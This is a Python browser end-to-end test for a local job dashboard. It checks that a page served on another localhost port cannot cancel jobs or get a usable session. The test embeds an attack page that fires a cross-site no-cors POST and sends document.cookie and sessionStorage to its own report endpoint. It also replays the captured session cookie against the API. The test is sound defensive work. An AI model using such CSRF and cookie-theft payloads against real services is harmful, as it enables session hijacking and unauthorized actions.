"""Issue 23, defects 2 and 4 in a real browser (headless Chromium): a user who opened the
dashboard then visits a page another local user serves on another port of 127.0.0.1.
That page tries a body-less ``no-cors`` POST to cancel a job, reads ``document.cookie``,
and its server records every byte the browser sends it (browsers send 127.0.0.1's
cookies to every port). The job must live on, and nothing the page or its server gets
may be the token or a session that works without this server's own page. The dashboard
itself can still cancel the job (its CSRF token)."""

from __future__ import annotations

import json
import threading
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from pollux.service.http.sessions import cookie_name, origin_of
from tests.service.browser import headless_chromium, skip_without_chromium
from tests.service.e2e_helpers import ServerProcess, wait_until

pytestmark = [skip_without_chromium, pytest.mark.timeout(120)]

ATTACK = """<!doctype html><title>loading</title><script>
const target = "%(server)s";
Promise.allSettled([
  fetch(target + "/api/jobs/%(job)s/cancel",
        {method: "POST", mode: "no-cors", credentials: "include"}),
  fetch(target + "/api/jobs", {mode: "no-cors", credentials: "include"}),
]).then(() => fetch("/report", {method: "POST", body: JSON.stringify(
  {cookie: document.cookie, storage: JSON.stringify(sessionStorage)})}))
  .then(() => { document.title = "done"; });
</script>"""


class AttackerSite:
    """Another user's web server on another port of 127.0.0.1."""

    def __init__(self, pages: dict[str, str]) -> None:
        self.received: list[bytes] = []
        self.reports: list[dict[str, str]] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> bytes:
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length) if length else b""
                site.received.append(self.requestline.encode() + b"\n"
                                     + bytes(self.headers) + body)
                return body

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                self._record()
                data = pages.get(self.path, "").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_POST(self) -> None:  # noqa: N802
                body = self._record()
                if self.path == "/report":
                    site.reports.append(json.loads(body))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def cookies(self) -> dict[str, str]:
        found: dict[str, str] = {}
        for raw in self.received:
            for line in raw.decode(errors="replace").splitlines():
                if line.lower().startswith("cookie:"):
                    parsed = SimpleCookie(line.split(":", 1)[1].strip())
                    found.update({name: morsel.value for name, morsel in parsed.items()})
        return found

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def test_a_page_on_another_port_cannot_cancel_or_get_a_usable_session(tmp_path):
    server = ServerProcess(tmp_path / "data")
    attacker = None
    try:
        client = server.start()
        token, url = client.address.token, client.address.url
        assert token
        job = client.submit({"name": "victim", "command": ["sleep", "300"],
                             "working_dir": str(tmp_path)})["id"]
        wait_until(lambda: client.job(job)["state"] == "Running", 30, "the job to run")
        link = f"{url}/?token={token}&job={job}&refresh_s=0.5"
        attacker = AttackerSite({"/attack.html": ATTACK % {"server": url, "job": job},
                                 "/wiki.html": f'<a id="go" href="{link}">dashboard</a>'})
        with headless_chromium() as driver:
            driver.get(f"{url}/?token={token}&refresh_s=0.5")
            wait_until(lambda: driver.execute_script(
                "return Number(document.getElementById('updated').dataset.refreshes) > 0"),
                20, "the dashboard's first refresh")
            assert token not in driver.current_url and "csrf" not in driver.current_url
            driver.get(f"{attacker.url}/attack.html")
            wait_until(lambda: driver.title == "done", 20, "the attack page to finish")
            assert client.job(job)["state"] == "Running"
            assert attacker.reports and attacker.reports[0]["cookie"] == ""
            assert attacker.reports[0]["storage"] == "{}"
            received = b"".join(attacker.received)
            assert token.encode() not in received
            stolen = attacker.cookies()
            scheme, _, netloc = url.partition("://")
            origin = origin_of(scheme, netloc)
            assert origin is not None
            session = cookie_name(origin)
            assert session in stolen  # browsers do send it to every port ...
            with httpx.Client(base_url=url, timeout=10) as thief:  # ... and it is useless
                headers = {"Cookie": f"{session}={stolen[session]}"}
                for path in ("/api/jobs", f"/api/jobs/{job}", "/api/dashboard", "/metrics"):
                    assert thief.get(path, headers=headers).status_code in (401, 403), path
                cancel = thief.post(f"/api/jobs/{job}/cancel", headers=headers)
                assert cancel.status_code in (401, 403), cancel.text
                submit = thief.post("/api/jobs", headers=headers, json={
                    "name": "evil", "command": ["true"], "working_dir": str(tmp_path)})
                assert submit.status_code in (401, 403), submit.text
            assert client.job(job)["state"] == "Running"
            assert [j["name"] for j in client.jobs()] == ["victim"]

            # the dashboard itself cancels with its CSRF token (opened by a link on
            # another site's page, as from a wiki: a new session)
            driver.get(f"{attacker.url}/wiki.html")
            driver.find_element("id", "go").click()
            wait_until(lambda: driver.execute_script(
                "const b = document.getElementById('job-cancel'); return b && !b.hidden"), 20,
                "the job's cancel button")
            driver.execute_script("window.confirm = () => true;"
                                  "document.getElementById('job-cancel').click()")
            wait_until(lambda: client.job(job)["state"] in ("Cancelling", "Cancelled"), 20,
                       "the dashboard's cancel")
            # the cookie without the page's CSRF token (a new tab): told how to sign in
            driver.execute_script("sessionStorage.clear(); location.reload()")
            wait_until(lambda: "pollux dashboard" in driver.execute_script(
                "const e = document.getElementById('error'); return e && !e.hidden ? "
                "e.textContent : ''"), 20, "the page to say how to sign in")
    finally:
        if attacker is not None:
            attacker.close()
        server.cleanup()
